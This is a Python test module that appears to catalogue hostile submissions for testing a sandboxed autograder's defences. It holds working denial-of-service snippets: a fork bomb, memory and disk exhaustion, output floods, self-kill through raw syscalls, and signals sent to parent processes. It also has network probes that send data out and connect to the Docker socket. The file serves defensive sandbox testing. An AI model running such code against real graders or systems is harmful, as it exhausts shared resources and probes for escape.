"""E: denial of service, against the grading, the machine, or the next submission. G: network."""

from __future__ import annotations

from typing import Any

from tests.hostile.attack import DEADLINE, Attack

BOUNDARY, CUT = "process boundary", "output cap"

TIME = [
    Attack("endless loop", "E", "never returns", """
def attack():
    end = time.monotonic() + 20
    while time.monotonic() < end: pass
""", stopped=DEADLINE),
    Attack("endless import", "E", "never finishes loading", """
time.sleep(20)
""", stopped=DEADLINE, nightly=True),
    Attack("stop", "E", "stops itself and ignores every signal", """
def attack():
    for number in range(1, 32):
        if number not in (signal.SIGKILL, signal.SIGSTOP):
            signal.signal(number, signal.SIG_IGN)
    os.kill(os.getpid(), signal.SIGSTOP)
""", stopped=DEADLINE, nightly=True),
    Attack("a byte at a time", "E", "answers so slowly that every byte renews the hope", """
def attack():
    os.write(frame("serve")["replies"], struct.pack(">I", 60000))
    for _ in range(40):
        os.write(frame("serve")["replies"], b"[")
        time.sleep(0.5)
""", stopped=DEADLINE, nightly=True),
    Attack("deaf worker", "E", "never reads the next question", """
def attack():
    sys.modules["worker.serve"]._receive = lambda _: time.sleep(20)
""", stopped="check", nightly=True),
    Attack("threads that never end", "E", "leaves threads busy when the function returns", """
def spin():
    end = time.monotonic() + 10
    while time.monotonic() < end: pass
def attack():
    for _ in range(4):
        threading.Thread(target=spin).start()
""", stopped="SIGKILL", nightly=True),
    Attack("input()", "E", "waits for somebody to type", """
def attack():
    tell("input", input)
""", stopped="no standard input"),
    Attack("closed descriptors", "E", "closes every descriptor it has", """
def attack():
    os.closerange(0, 4096)
""", stopped=BOUNDARY),
]  # fmt: skip

ENDS = {
    "os._exit": "os._exit(0)",
    "sys.exit": "sys.exit(0)",
    "segmentation fault": "ctypes.string_at(0)",
    "abort": "os.abort()",
    "SIGKILL": "os.kill(os.getpid(), signal.SIGKILL)",
    "KeyboardInterrupt": "raise KeyboardInterrupt",
}
EXITS = [
    Attack(f"end by {name}", "E", "ends the process in the middle of a check",
           f"def attack():\n    {line}\n", stopped=BOUNDARY, nightly=name != "os._exit")
    for name, line in ENDS.items()
]  # fmt: skip

# A worker that was killed from outside is the grader's failure and costs no points. So a submission
# may try to kill its own worker.
KILL = """
import threading
libc = ctypes.CDLL(None, use_errno=True)

def call(*arguments):
    if platform.machine() != "x86_64":
        raise NotImplementedError
    if libc.syscall(*map(ctypes.c_ulong, arguments)) < 0:
        raise OSError(ctypes.get_errno(), "refused")

class Event(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signal", ctypes.c_int), ("notify", ctypes.c_int),
                ("rest", ctypes.c_int * 12)]

def timer():
    event, made = Event(None, signal.SIGKILL, 0), ctypes.c_int()
    call(222, 0, ctypes.addressof(event), ctypes.addressof(made))
    call(223, made.value, 0, ctypes.addressof((ctypes.c_long * 4)(0, 0, 0, 10**6)), 0)
    time.sleep(1)

def limit():
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_CPU, (1, 1))
    while True: pass

def attack():
    tell("SIGKILL", lambda: os.kill(os.getpid(), signal.SIGKILL))
    tell("kill", lambda: call(62, os.getpid(), 2**32 + signal.SIGKILL))
    tell("tgkill", lambda: call(234, os.getpid(), threading.get_native_id(), 2**32 + 9))
    tell("timer", timer)
    tell("limit", limit)
"""
# Fills memory, step by step, and lets go of all of it when there is no more.
HOG = """
def attack():
    kept = []
    try:
        while True:
            kept.append(np.ones(10**6))
    except MemoryError:
        kept.clear()
        raise
"""
SPIN = """
import signal

class NumpyANN:
    def __init__(self, *sizes):
        pass

def train_epoch(model, batches, lr):
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    while True: pass
"""
WAIT = """
import time

class NumpyANN:
    def __init__(self, *sizes):
        pass

def train_epoch(model, batches, lr):
    time.sleep(60)
"""
LARGE = """
import torch
from torch import nn

class PyTorchANN(nn.Module):
    def __init__(self, *sizes):
        super().__init__()
        self.a = nn.Linear(784, 10)
        {layers}
    def forward(self, x):
        return {output}

def make_optimizer(model, lr):
    return torch.optim.SGD(model.parameters(), lr=lr)

def train_epoch(model, batches, optimizer):
    pass
"""
DRAWING = """
import numpy as np
from matplotlib.figure import Figure

def plot_train_val_metrics(history):
    figure = Figure({size})
    ax = figure.subplots()
    {draw}
    return figure
"""
DRAWINGS = {
    "a hundred thousand curves": "for i in range(100_000): ax.plot([0, 1], [i, i])",
    "a curve of ten million points": "ax.plot(np.random.default_rng(0).normal(size=10**7))",
    "labels of megabytes": "ax.plot([1, 2], label='x' * 10**7); ax.legend()",
    "a figure as large as a house": "figure.set_size_inches(10**5, 10**5); ax.plot([1, 2])",
}


def training(name: str, tries: str, whole: str, **more: Any) -> Attack:
    """Return an attack on a training that may take a second or two."""
    return Attack(name, "E", tries, whole=whole, trains=True, stopped="limits", **more)


TRAININGS = [
    training("time is up, ignored", "spins in train_epoch and ignores the signal that time is up",
             SPIN, only="1.10", settings={"processor_seconds": 1}, nightly=True),
    training("a training that waits", "sleeps in train_epoch, which takes no processor time",
             WAIT, only="1.10", settings={"wall_seconds": 21.0}, seconds=60, nightly=True),
    training("a state of ten thousand parts", "keeps more arrays than a message may hold",
             LARGE.format(output="self.a(x)", layers="""
        for i in range(10_000): self.register_buffer(f"b{i}", torch.zeros(1))"""),
             module="pytorch_ann", only="2.7", settings={"epochs": 1}, seconds=60, nightly=True),
    training("outputs of gigabytes", "answers with a million classes",
             LARGE.format(output="self.a(x)[:, :1].repeat(1, 10**6)", layers=""),
             module="pytorch_ann", only="2.7", settings={"epochs": 1}, seconds=60, nightly=True),
]  # fmt: skip
FIGURES = [
    Attack(name, "E", "returns a figure that takes for ever to look at", module="pytorch_ann",
           whole=DRAWING.format(size="", draw=draw), only="2.5", stopped=DEADLINE, nightly=True,
           seconds=60)
    for name, draw in DRAWINGS.items()
]  # fmt: skip

OTHERS = [
    Attack("killed by its own hand", "E", "has its worker end as if the machine had ended it",
           KILL, stopped="seccomp"),
    Attack("signals to others", "E", "signals its parents, its group and everybody", """
for pid in (os.getppid(), PID, 0, -1):
    name = {0: "its group", -1: "everybody"}.get(pid, "a parent")
    tell(f"kill {name}", lambda: os.kill(pid, 0))
tell("killpg", lambda: os.killpg(0, 0))
tell("tgkill", lambda: system("tgkill", PID, PID, 0))
tell("rt_sigqueueinfo", lambda: system("rt_sigqueueinfo", PID, 0, 0))
""", stopped="seccomp"),
    Attack("signal by a pipe", "E", "has the kernel signal the grader when a pipe is ready", """
F_SETSIG, O_ASYNC = 10, 0o20000
def ask():
    ends = os.pipe()
    fcntl.fcntl(ends[0], F_SETSIG, signal.SIGWINCH)
    fcntl.fcntl(ends[0], fcntl.F_SETOWN, PID)
    fcntl.fcntl(ends[0], fcntl.F_SETFL, O_ASYNC)
    os.write(ends[1], b"x")
ask()
""", stopped="Landlock, own user"),
    Attack("limits for others", "E", "lowers the limits and the priority of its parents", """
for pid in (os.getppid(), PID):
    tell("prlimit", lambda: resource.prlimit(pid, resource.RLIMIT_CORE,
                                            resource.getrlimit(resource.RLIMIT_CORE)))
    tell("setpriority", lambda: os.setpriority(os.PRIO_PROCESS, pid, 0))
    tell("sched_setscheduler", lambda: os.sched_setscheduler(pid, 0, os.sched_param(0)))
"""),
    Attack("processors for others", "E", "moves its parents to other processors", """
for pid in (os.getppid(), PID):
    tell("sched_setaffinity", lambda: os.sched_setaffinity(pid, os.sched_getaffinity(0)))
"""),
    Attack("life after the grader", "E", "asks the kernel not to end it with its parent", """
tell("PR_SET_PDEATHSIG", lambda: system("prctl", 1, 0, 0, 0, 0))
"""),
    Attack("fork bomb", "E", "forks as often as it may", """
for _ in range(10):
    tell("fork", lambda: os.fork() or time.sleep(10) or os._exit(0))
tell("clone", lambda: system("clone", 0, 0, 0, 0, 0) or os._exit(0))
tell("clone3", lambda: system("clone3", 0, 0))
"""),
    Attack("process pool", "E", "takes workers of multiprocessing and of a DataLoader", """
import torch
from torch.utils.data import DataLoader, TensorDataset
def attack():
    import multiprocessing
    tell("Pool", lambda: multiprocessing.get_context("fork").Pool(2))
    loader = DataLoader(TensorDataset(torch.zeros(8, 2)), num_workers=2)
    tell("DataLoader", lambda: next(iter(loader)))
""", module="pytorch_ann"),
    Attack("changed files", "E", "fills folders with directories, pipes and devices", """
for folder in (CANARY, "/tmp", "/dev/shm", "/var/tmp"):
    name = f"{folder}/{MARKER}"
    tell("mkdir", lambda: os.mkdir(name))
    tell("mkfifo", lambda: os.mkfifo(name))
    tell("mknod", lambda: os.mknod(name))
tell("rmdir", lambda: os.rmdir(CANARY))
"""),
]  # fmt: skip

SPACE = [
    Attack("hundreds of threads", "E", "starts threads with tiny stacks, as many as it can", """
threading.stack_size(32 * 1024)
end = threading.Event()
def start():
    for _ in range(400):
        threading.Thread(target=end.wait, args=(5,), daemon=True).start()
tell("400 threads", start)
""", stopped="limits", needs="own user"),
    Attack("memory", "E", "reserves 16 GB", """
tell("16 GB", lambda: np.empty(2**34, np.uint8))
"""),
    Attack("memory, touched", "E", "fills memory until there is no more", HOG, stopped="limits",
           nightly=True, seconds=60),
    Attack("recursion", "E", "recurses with the limit raised", """
sys.setrecursionlimit(50_000)
def deeper(n):
    return deeper(n + 1)
tell("recursion", lambda: deeper(0))
"""),
    Attack("disk", "E", "fills what it can write to", """
for folder in (CANARY, "/tmp", "/dev/shm", "/var/tmp", OUT):
    def fill():
        with open(f"{folder}/{MARKER}", "wb") as stream:
            stream.write(bytes(5 * 10**6))
    tell("fill", fill)
"""),
    Attack("output flood", "E", "prints 20 MB, on both streams", """
def attack():
    for _ in range(10):
        print("x" * 10**6)
        print("y" * 10**6, file=sys.stderr)
""", stopped=CUT),
    Attack("giant answer", "E", "returns 100 MB", """
def relu(z):
    return np.zeros(13 * 10**6)
""", stopped="wire format"),
    Attack("giant exception", "E", "raises with a message of 50 MB", """
def attack():
    raise ValueError("x" * 50_000_000)
""", stopped=CUT),
    Attack("giant header", "E", "announces 4 GB of JSON", """
def attack():
    os.write(frame("serve")["replies"], b"\\xff" * 4 + b"[" * 60000)
""", stopped="wire format"),
    Attack("brackets", "E", "sends 60,000 opening brackets", """
def attack():
    os.write(frame("serve")["replies"], struct.pack(">I", 60000) + b"[" * 60000)
""", stopped="wire format"),
]  # fmt: skip

VALUES = {
    "NaN": "z * np.nan",
    "ragged": "[[1.0], [1.0, 2.0]]",
    "complex": "z + 1j",
    "text": "np.array(['x'])",
    "dates": "z.astype('datetime64[s]')",
    "bytes": "z.tobytes()",
    "itself": "(lambda x: x.append(x) or x)([])",
    "endless iterator": "iter(int, 1)",
}
ANSWERS = [
    Attack(f"answer: {name}", "E", "returns what no comparison was made for",
           f"def relu(z):\n    return {value}\n", stopped="check",
           nightly=name not in ("complex", "itself"))
    for name, value in VALUES.items()
]  # fmt: skip

NETWORK = [
    Attack("sockets", "G", "opens sockets of every family", """
for name in ("AF_INET", "AF_INET6", "AF_UNIX", "AF_NETLINK", "AF_PACKET", "AF_VSOCK", "AF_ALG"):
    tell(f"socket {name}", lambda: socket.socket(getattr(socket, name), socket.SOCK_DGRAM).close())
tell("socketpair", lambda: socket.socketpair())
"""),
    Attack("send results away", "G", "sends by TCP, by UDP and by HTTP", """
socket.setdefaulttimeout(0.3)
tell("TCP", lambda: socket.create_connection(("127.0.0.1", 9)))
tell("UDP", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 9)))
def fetch():
    import urllib.request
    urllib.request.urlopen("http://127.0.0.1:9/", timeout=0.3)
try:
    fetch()
except OSError as error:
    tell("HTTP", lambda: (_ for _ in ()).throw(getattr(error, "reason", error)))
""", stopped="seccomp"),
    Attack("local services", "G", "talks to Docker, to the agent and to abstract sockets", """
for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "\\0grader"):
    tell("AF_UNIX", lambda: socket.socket(socket.AF_UNIX).connect(path))
tell("name look-up", lambda: socket.getaddrinfo("example.invalid", 80))
""", stopped="seccomp"),
]  # fmt: skip

ALL = [*TIME, *EXITS, *TRAININGS, *FIGURES, *OTHERS, *SPACE, *ANSWERS, *NETWORK]
